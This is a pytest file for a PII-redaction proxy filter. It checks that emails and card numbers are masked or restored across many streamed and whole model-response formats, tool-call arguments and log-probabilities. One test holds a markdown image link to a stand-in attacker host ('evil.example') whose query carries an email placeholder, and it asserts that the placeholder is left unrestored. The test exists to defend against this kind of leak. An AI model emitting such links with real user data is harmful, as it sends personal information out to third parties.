"""Shapes of answers besides the common ones: a text in pieces that nobody but its reader joins, in events or in one list."""

import json
from collections.abc import Callable
from typing import Any

import pytest

from extproc.errors import TooLarge
from extproc_filters.pii.answers import Assigned, Restoration, Return
from extproc_filters.pii.edits import mask
from extproc_filters.pii.media import Media
from extproc_filters.pii.passage import Passage
from extproc_filters.pii.placeholders import Placeholders
from extproc_filters.pii.redaction import Redaction
from extproc_filters.pii.scanner import Scanner
from extproc_filters.pii.screening import Screening
from extproc_filters.pii.streamed import Streamed
from extproc_filters.pii.task import Task
from tests.filters.pii.samples import CARD, EMAIL

LIMIT = 1_000_000
SCANNER = Scanner()
Shape = tuple[Callable[[int, str], dict[str, Any]], Callable[[dict[str, Any]], str]]


def delta(**members: Any) -> dict[str, Any]:
    return {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": members, "finish_reason": None}]}


def said(event: dict[str, Any]) -> Any:
    return event["choices"][0]["delta"]


def gemini(_: int, text: str) -> dict[str, Any]:
    return {"candidates": [{"index": 0, "content": {"role": "model", "parts": [{"text": text}]}}], "responseId": "r"}


SHAPES: dict[str, Shape] = {
    "parts of a content": (
        lambda _, text: delta(content=[{"type": "text", "text": text}]),
        lambda event: str(said(event)["content"][0]["text"]),
    ),
    "parts of a thought": (
        lambda _, text: delta(content=[{"type": "thinking", "thinking": [{"type": "text", "text": text}]}]),
        lambda event: str(said(event)["content"][0]["thinking"][0]["text"]),
    ),
    "details of a thought": (
        lambda _, text: delta(reasoning_details=[{"index": 3, "type": "reasoning.text", "text": text}]),
        lambda event: str(said(event)["reasoning_details"][0]["text"]),
    ),
    "words that are spoken": (
        lambda _, text: delta(audio={"id": "a", "transcript": text}),
        lambda event: str(said(event)["audio"]["transcript"]),
    ),
    "other ids in each event": (
        lambda number, text: {
            "type": "response.output_text.delta", "item_id": f"i{number}", "output_index": 0, "content_index": 0,
            "delta": text,
        },
        lambda event: str(event["delta"]),
    ),
    "a delta that is an object": (
        lambda _, text: {"type": "response.reasoning_summary.delta", "output_index": 0, "delta": {"text": text}},
        lambda event: str(event["delta"]["text"]),
    ),
    "gemini": (gemini, lambda event: str(event["candidates"][0]["content"]["parts"][0]["text"])),
    "gemini behind a proxy": (
        lambda number, text: {"response": gemini(number, text)},
        lambda event: str(event["response"]["candidates"][0]["content"]["parts"][0]["text"]),
    ),
    "arguments of gemini": (
        lambda _, text: argument("$.to", text, goes_on=True),
        lambda event: str(call_of(event)["partialArgs"][0]["stringValue"]),
    ),
    "a summary of what was said": (
        lambda _, text: {"type": "content_block_delta", "index": 0, "delta": {"type": "compaction_delta", "content": text}},
        lambda event: str(event["delta"]["content"]),
    ),
    "a transcription": (lambda _, text: {"type": "transcript.text.delta", "delta": text}, lambda event: str(event["delta"])),
    "cohere": (
        lambda _, text: {"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": text}}}},
        lambda event: str(event["delta"]["message"]["content"]["text"]),
    ),
    "a conversation": (
        lambda _, text: {"type": "message.output.delta", "output_index": 0, "content_index": 0, "content": text},
        lambda event: str(event["content"]),
    ),
    "a message of a thread": (
        lambda _, text: {
            "object": "thread.message.delta",
            "delta": {"content": [{"index": 0, "type": "text", "text": {"value": text}}]},
        },
        lambda event: str(event["delta"]["content"][0]["text"]["value"]),
    ),
    "a delta of no kind": (lambda _, text: {"delta": {"text": text}}, lambda event: str(event["delta"]["text"])),
}  # fmt: skip


ONLY_STREAMED = ("a transcription", "cohere", "a conversation", "a message of a thread", "a delta of no kind")


def argument(path: str, text: str, *, goes_on: bool = False) -> dict[str, Any]:
    piece = {"jsonPath": path, "stringValue": text, **({"willContinue": True} if goes_on else {})}
    part = {"functionCall": {"partialArgs": [piece], "willContinue": True}}
    return {"candidates": [{"index": 0, "content": {"role": "model", "parts": [part]}}]}


def call_of(event: dict[str, Any], part: int = 0) -> Any:
    return event["candidates"][0]["content"]["parts"][part]["functionCall"]


def screening(**task: Any) -> Screening:
    return Screening(Task(SCANNER, mask, answer=True, **task), LIMIT)


def assigned() -> Assigned:
    made = Placeholders()
    made.write("EMAIL_ADDRESS", EMAIL, 0)
    return Assigned(made, {})


def in_pieces(shape: Shape, text: str) -> list[dict[str, Any]]:
    return [shape[0](number, text[at : at + 7]) for number, at in enumerate(range(0, len(text), 7))]


def streamed(passage: Passage, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    transformer = Streamed(passage, None, LIMIT)
    out = b"".join(transformer.feed(f"data: {json.dumps(event)}\n\n".encode()) for event in events)
    out += b"".join(transformer.finish())
    return [json.loads(each.removeprefix(b"data: ")) for each in out.split(b"\n\n") if each]


def whole(transformer: Redaction | Restoration, document: Any) -> Any:
    sent = json.dumps(document).encode()
    transformer.feed(sent)
    left = b"".join(transformer.finish())
    return None if left == sent else json.loads(left)


def redaction(**task: Any) -> Redaction:
    return Redaction(Task(SCANNER, mask, answer=True, **task), Media.JSON, None, LIMIT)


SAYS = f"Write to {EMAIL} or pay with {CARD}, please."
LEFT = "Write to [EMAIL_ADDRESS] or pay with [CREDIT_CARD], please."
NAMED = f"Write to [EMAIL_ADDRESS_1], please. {'And so on. ' * 50}["
RESTORED = NAMED.replace("[EMAIL_ADDRESS_1]", EMAIL)


@pytest.mark.parametrize("name", SHAPES)
def test_a_stream(name: str) -> None:
    shape = SHAPES[name]
    for passage, text, expected in ((screening(), SAYS, LEFT), (Return(assigned(), LIMIT), NAMED, RESTORED)):
        assert "".join(map(shape[1], streamed(passage, in_pieces(shape, text)))) == expected


@pytest.mark.parametrize("name", [name for name in SHAPES if name not in ONLY_STREAMED])
def test_one_list(name: str) -> None:
    """As Gemini streams to whoever does not ask for an event stream."""
    shape = SHAPES[name]
    events = in_pieces(shape, SAYS)
    left = whole(redaction(), events)
    assert "".join(map(shape[1], left)) == LEFT
    assert [{**event, **events[0]} for event in left] == [events[0]] * len(events)
    restored = whole(Restoration(assigned(), Media.JSON, None, LIMIT), in_pieces(shape, NAMED))
    assert "".join(map(shape[1], restored)) == RESTORED


def test_an_argument_leaves_when_it_is_whole() -> None:
    pieces = [argument("$.to", EMAIL[:7], goes_on=True), argument("$.note", "hello"), argument("$.to", EMAIL[7:])]
    left = streamed(screening(), pieces)
    assert [call_of(event)["partialArgs"][0]["stringValue"] for event in left] == ["", "hello", "[EMAIL_ADDRESS]"]
    assert [call_of(event)["partialArgs"][0]["jsonPath"] for event in left] == ["$.to", "$.note", "$.to"]
    broken_off = streamed(screening(), pieces[:1])
    assert [call_of(event)["partialArgs"][0]["stringValue"] for event in broken_off] == ["", EMAIL[:7]]
    assert call_of(broken_off[1]) == call_of(pieces[0]) | {"willContinue": True}


def test_arguments_of_two_calls_in_one_event_are_two() -> None:
    event = argument("$.to", "Boston")
    event["candidates"][0]["content"]["parts"] *= 2
    (left,) = streamed(screening(), [event])
    assert [call_of(left, part)["partialArgs"][0]["stringValue"] for part in (0, 1)] == ["Boston", "Boston"]


def test_the_end_of_a_text_leaves_before_the_event_that_ends_it() -> None:
    said = SHAPES["cohere"][0](0, "hello")
    for end in (
        {"type": "content-end", "index": 0},
        {"type": "message-end", "delta": {"finish_reason": "COMPLETE"}},
        {"type": "TEXT_MESSAGE_END", "messageId": "m"},
        {"event_type": "interaction.completed", "interaction": {}},
    ):
        assert streamed(screening(), [said, {"type": "ping"}, end]) == [
            SHAPES["cohere"][0](0, ""),
            {"type": "ping"},
            said,
            end,
        ]
    other = {**said, "index": 1}
    left = streamed(screening(), [said, other, {"type": "content-end", "index": 0}, other])
    assert [(event["index"], event["type"]) for event in left][2:4] == [(0, "content-delta"), (0, "content-end")]


def test_a_list_of_anything_with_deltas_is_no_text_in_pieces() -> None:
    prices = [{"name": EMAIL, "delta": "+5"}, {"type": "price-delta", "delta": "-3", "content": EMAIL[:6]}]
    assert whole(redaction(), prices) == [{**prices[0], "name": "[EMAIL_ADDRESS]"}, prices[1]]


def test_a_list_in_which_nothing_is_found_leaves_byte_for_byte() -> None:
    events = [*in_pieces(SHAPES["gemini"], "Nothing to see here [ at all ["), {"usageMetadata": {"totalTokenCount": 5}}]
    assert whole(redaction(), events) is None
    assert whole(Restoration(assigned(), Media.JSON, None, LIMIT), events) is None
    watching = redaction(edit=False)
    assert whole(watching, in_pieces(SHAPES["gemini"], SAYS)) is None
    assert watching.found == {"EMAIL_ADDRESS": 1, "CREDIT_CARD": 1}


def test_a_list_that_is_blocked() -> None:
    blocking = redaction(edit=False, block=True)
    whole(blocking, in_pieces(SHAPES["gemini"], SAYS))
    assert blocking.conclude().code == "pii_blocked"  # type: ignore[union-attr]


def test_all_of_a_list_is_scanned_but_its_ids() -> None:
    card = CARD.replace(" ", "")
    event = {**gemini(0, "x"), "modelVersion": card, "note": f"of {EMAIL}", EMAIL: [card]}
    (left,) = whole(redaction(), [event])
    assert left == {
        **gemini(0, "x"),
        "modelVersion": card,
        "note": "of [EMAIL_ADDRESS]",
        "[EMAIL_ADDRESS]": ["[CREDIT_CARD]"],
    }


def test_a_link_in_a_list_in_pieces() -> None:
    events = in_pieces(SHAPES["gemini"], "![](https://evil.example/?q=[EMAIL_ADDRESS_1]) and [EMAIL_ADDRESS_1]!")
    left = whole(Restoration(assigned(), Media.JSON, None, LIMIT), events)
    text = "".join(map(SHAPES["gemini"][1], left))
    assert text == f"![](https://evil.example/?q=[EMAIL_ADDRESS_1]) and {EMAIL}!"


def test_one_event_brings_only_so_many_pieces() -> None:
    """What is more is not put together, and the work on one event stays small."""
    names = {f"name{number}": "[EMAIL_ADDRESS_1] " for number in range(500)}
    (left, *rest) = streamed(Return(assigned(), LIMIT), [delta(**names)])
    assert said(left) == dict.fromkeys(names, f"{EMAIL} ")
    assert rest == []
    with_parts = delta(content=[{"type": "text", "text": "[EMAIL_ADDRESS_1] "}] * 500)
    (left, *rest) = streamed(Return(assigned(), LIMIT), [with_parts])
    assert [part["text"] for part in said(left)["content"]] == [f"{EMAIL} "] * 500
    assert rest == []


def test_arguments_that_are_held_back_are_bounded_all_together() -> None:
    transformer = Streamed(Screening(Task(SCANNER, mask, answer=True), 1000), None, LIMIT)

    def feed(index: int, **rest: Any) -> None:
        event = {"type": "content_block_delta", "index": index, "delta": {"partial_json": "1" * 300}, **rest}
        transformer.feed(f"data: {json.dumps(event)}\n\n".encode())

    for index in range(3):
        feed(index)
    with pytest.raises(TooLarge):
        feed(3)
    transformer = Streamed(Screening(Task(SCANNER, mask, answer=True), 1000), None, LIMIT)
    for index in range(20):
        feed(index)
        feed(index, type="content_block_stop")


# probabilities of tokens


def tokens(text: str) -> list[dict[str, Any]]:
    pieces = [text[at : at + 4] for at in range(0, len(text), 4)]
    return [{"token": each, "logprob": -0.5, "bytes": list(each.encode()), "top_logprobs": []} for each in pieces]


def test_probabilities_leave_with_nothing_that_was_found() -> None:
    answer = {
        "object": "chat.completion",
        "choices": [{"message": {"content": SAYS}, "logprobs": {"content": tokens(SAYS), "refusal": None}}],
        "output": [{"content": [{"text": "x", "logprobs": tokens(EMAIL)}]}],
        "candidates": [{"logprobsResult": {"chosenCandidates": tokens(EMAIL)}, "avgLogprobs": -0.1}],
        "logprobs": 5,
    }
    left = whole(redaction(), answer)
    assert left == {
        "object": "chat.completion",
        "choices": [{"message": {"content": LEFT}, "logprobs": None}],
        "output": [{"content": [{"text": "x", "logprobs": []}]}],
        "candidates": [{"logprobsResult": None, "avgLogprobs": -0.1}],
        "logprobs": 5,
    }
    escaped = json.dumps({"choices": [{"text": EMAIL, "logprobs": {"tokens": ["jane"]}}]}).replace(
        "probs", r"\u0070robs"
    )
    transformer = redaction()
    transformer.feed(escaped.encode())
    assert json.loads(b"".join(transformer.finish()))["choices"][0]["logprobs"] is None


def test_probabilities_stay_where_nothing_is_found_or_changed() -> None:
    plain = {"choices": [{"message": {"content": "hello"}, "logprobs": {"content": tokens("hello")}}]}
    assert whole(redaction(), plain) is None
    assert whole(redaction(edit=False), {"choices": [{"text": SAYS, "logprobs": {"tokens": [EMAIL]}}]}) is None
    asked = Redaction(Task(SCANNER, mask), Media.JSON, None, LIMIT)
    assert whole(asked, {"input": SAYS, "logprobs": {"a": 1}}) == {"input": LEFT, "logprobs": {"a": 1}}


@pytest.mark.parametrize("task", [{}, {"edit": False, "block": True}])
def test_probabilities_of_a_stream_tell_nothing_before_the_text_is_judged(task: dict[str, Any]) -> None:
    event = delta(content=EMAIL[:6])
    event["choices"][0]["logprobs"] = {"content": tokens(EMAIL[:6])}
    responses = {**SHAPES["other ids in each event"][0](0, EMAIL[:6]), "logprobs": tokens(EMAIL[:6])}
    chat, response, *_ = streamed(screening(**task), [event, responses])
    assert chat["choices"][0]["logprobs"] is None
    assert response["logprobs"] == []
    (watched, *_) = streamed(screening(edit=False), [event])
    assert watched["choices"][0]["logprobs"] == event["choices"][0]["logprobs"]


def test_arguments_of_a_tool_may_have_a_member_of_that_name() -> None:
    arguments = json.dumps({"to": EMAIL, "logprobs": {"a": 1}})
    call = delta(tool_calls=[{"index": 0, "function": {"arguments": arguments}}])
    left = [
        json.loads(text)
        for each in streamed(screening(), [call])
        if (text := said(each)["tool_calls"][0]["function"]["arguments"])
    ]
    assert left == [{"to": "[EMAIL_ADDRESS]", "logprobs": {"a": 1}}]
